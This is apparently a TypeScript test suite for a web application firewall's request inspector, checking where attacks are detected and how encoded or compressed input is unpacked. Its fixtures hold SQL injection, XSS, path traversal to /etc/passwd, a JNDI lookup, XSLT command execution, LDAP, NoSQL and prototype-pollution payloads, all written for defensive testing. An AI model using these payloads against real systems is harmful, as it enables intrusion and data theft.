import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { ask, type CaseRequest } from '../../../src/guard/decide/waf/cases.ts';
import { Inspection, type Place, type Sought } from '../../../src/guard/decide/waf/inspect/inspect.ts';
import { exchangeOf } from '../decide/at-hand.ts';

const least = 50;

async function first(request: CaseRequest, place: Place, sought: Sought) {
  const x = await exchangeOf(request);
  const found = new Inspection(x, 16_384).first(place, sought, { least });
  return found === null
    ? null
    : { where: found.piece.where, name: found.piece.name, how: found.piece.how, x };
}

const flat = (headers: Readonly<Record<string, string>>): string[] => Object.entries(headers).flat();
const get = (target: string, headers = {}): CaseRequest => ask({ target, headers: flat(headers) });
const post = (target: string, body: string, headers = {}): CaseRequest =>
  ask({ method: 'POST', target, body, headers: flat(headers) });
const json = { 'content-type': 'application/json' };

test('an attack is found where the application would read it, under the name it reads it by', async () => {
  const query = await first(get('/?page=2&id=1%27%20or%201%3D1--'), 'query', 'sqli');
  assert.deepEqual([query!.where, query!.name], ['query', 'id']);
  const leaf = await first(post('/', '{"a":{"b":["x","<script>alert(1)</script>"]}}', json), 'body', 'xss');
  assert.deepEqual([leaf!.where, leaf!.name], ['json', '/a/b/1']);
  const cookie = await first(get('/', { cookie: "a=b; id=1' or 1=1--" }), 'cookie', 'sqli');
  assert.deepEqual([cookie!.where, cookie!.name], ['cookie', 'id']);
  const path = await first(get('/files/..%2f..%2f..%2fetc%2fpasswd'), 'path', 'path');
  assert.equal(path!.where, 'path');
  const header = await first(get('/', { 'x-api-version': '${jndi:ldap://x.test/a}' }), 'header', 'jndi');
  assert.deepEqual([header!.where, header!.name], ['header', 'x-api-version']);
});

test('an attack in one place is not found in another', async () => {
  const request = get('/?a=%3Cscript%3Ealert(1)%3C/script%3E', { cookie: 'a=b' });
  for (const place of ['body', 'cookie', 'path', 'header'] as const)
    assert.equal(await first(request, place, 'xss'), null, place);
  const cookie = get('/', { cookie: "id=1' or 1=1--" });
  assert.equal(await first(cookie, 'header', 'sqli'), null);
});

test('what is encoded, and JSON within texts, is seen as it is once undone', async () => {
  const wrapped = Buffer.from("1' or 1=1--").toString('base64');
  assert.deepEqual((await first(get(`/?id=${wrapped}`), 'query', 'sqli'))!.how, ['base64']);
  const token = Buffer.from('{"kid":"../../../../etc/passwd"}').toString('base64url');
  const claim = await first(get('/', { authorization: `Bearer ${token}.e30.x` }), 'header', 'path');
  assert.notEqual(claim, null);
  const text = JSON.stringify({ filter: JSON.stringify({ name: "x' union select password from users--" }) });
  const inner = await first(post('/', text, json), 'body', 'sqli');
  assert.notEqual(inner, null);
  const zipped = gzipSync('{"a":"<script>alert(1)</script>"}').toString('latin1');
  const unzipped = await first(post('/', zipped, { ...json, 'content-encoding': 'gzip' }), 'body', 'xss');
  assert.equal(unzipped!.name, '/a');
});

test('a document that is compressed is looked at as a whole as well', async () => {
  const sheet =
    '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><x:value-of select="php:function(\'system\',\'id\')"/></x:stylesheet>';
  const type = { 'content-type': 'application/xml' };
  assert.notEqual(await first(post('/', sheet, type), 'body', 'xxe'), null);
  const zipped = gzipSync(sheet).toString('latin1');
  assert.notEqual(
    await first(post('/', zipped, { ...type, 'content-encoding': 'gzip' }), 'body', 'xxe'),
    null,
  );
  assert.notEqual(await first(post('/', zipped, type), 'body', 'xxe'), null);
});

test('claims of a token, arguments of the address one comes from and an agent that is no product are read as arguments are, other headers are not', async () => {
  const claims = Buffer.from('{"sub":"x*)(objectClass=*"}').toString('base64url');
  assert.notEqual(await first(get('/', { authorization: `Bearer e30.${claims}.x` }), 'header', 'ldap'), null);
  for (const argument of ['x*)(objectClass=*', 'x%2a%29%28objectClass%3d%2a'])
    assert.notEqual(
      await first(get('/', { referer: `https://shop.example/?p=1&uid=${argument}` }), 'header', 'ldap'),
      null,
    );
  const user = `Basic ${Buffer.from('x*)(objectClass=*:secret').toString('base64')}`;
  assert.equal(
    (await first(get('/', { authorization: user }), 'header', 'ldap'))!.name,
    'authorization?user',
  );
  assert.notEqual(await first(get('/', { 'user-agent': 'x*)(objectClass=*' }), 'header', 'ldap'), null);
  const product = { 'user-agent': 'shop/2.1 x*)(objectClass=*', via: 'x*)(objectClass=*' };
  assert.equal(await first(get('/', product), 'header', 'ldap'), null);
});

test('names are looked at as names', async () => {
  assert.equal((await first(get('/?user%5B%24ne%5D=1'), 'query', 'nosql'))!.where, 'query-name');
  const key = await first(post('/', '{"a":{"__proto__":{"admin":true}}}', json), 'body', 'prototype');
  assert.equal(key!.where, 'json-key');
});

test('what cannot be read is looked at as it is, and remarked on', async () => {
  const broken = await first(post('/', '{"a":"<script>alert(1)</script>', json), 'body', 'xss');
  assert.deepEqual(broken!.x.unread, ['body: is no JSON']);
  const coded = post('/', '<script>alert(1)</script>', { 'content-encoding': 'x-unheard-of' });
  const raw = await first(coded, 'body', 'xss');
  assert.deepEqual(raw!.x.unread, ['body: a content coding that is not known']);
});

test('no more of a body is looked at than the web ACL says', async () => {
  const body = `${'a'.repeat(9_000)}<script>alert(1)</script>`;
  const x = await exchangeOf(post('/', body, { 'content-type': 'text/plain' }));
  assert.notEqual(new Inspection(x, 16_384).first('body', 'xss', { least }), null);
  assert.equal(new Inspection(x, 8_192).first('body', 'xss', { least }), null);
});

test('a rule that looks at some pieces alone does not hide the others from the rules behind it', async () => {
  const inspection = new Inspection(
    await exchangeOf(get('/?a=1&b=%3Cscript%3Ealert(1)%3C/script%3E')),
    16_384,
  );
  assert.equal(inspection.first('query', 'xss', { least, of: (piece) => piece.name === 'a' }), null);
  assert.equal(inspection.first('query', 'xss', { least, counts: () => false }), null);
  assert.notEqual(inspection.first('query', 'xss', { least }), null);
});

test('of texts that are the same one is looked at for all, and each counts by its own name', async () => {
  const rows = Array.from({ length: 5 }, () => ({ a: '1 or 1=1--', b: 'plain', c: '1 or 1=1--' }));
  const inspection = new Inspection(await exchangeOf(post('/', JSON.stringify(rows), json)), 16_384);
  const named = (name: string) =>
    inspection.first('body', 'sqli', { least, of: (piece) => piece.name === name })?.piece.name;
  assert.equal(inspection.first('body', 'sqli', { least, of: (piece) => piece.text === 'plain' }), null);
  assert.equal(named('/4/b'), undefined);
  assert.equal(named('/3/c'), '/3/c');
  assert.equal(named('/0/a'), '/0/a');
  // A key and a value of the same text are looked at each for itself.
  const both = await exchangeOf(post('/', '[{"$where":1},"$where"]', json));
  const where = (kind: string) =>
    new Inspection(both, 16_384).first('body', 'nosql', { least, of: (piece) => piece.where === kind });
  assert.notEqual(where('json-key'), null);
  assert.equal(where('json'), null);
});
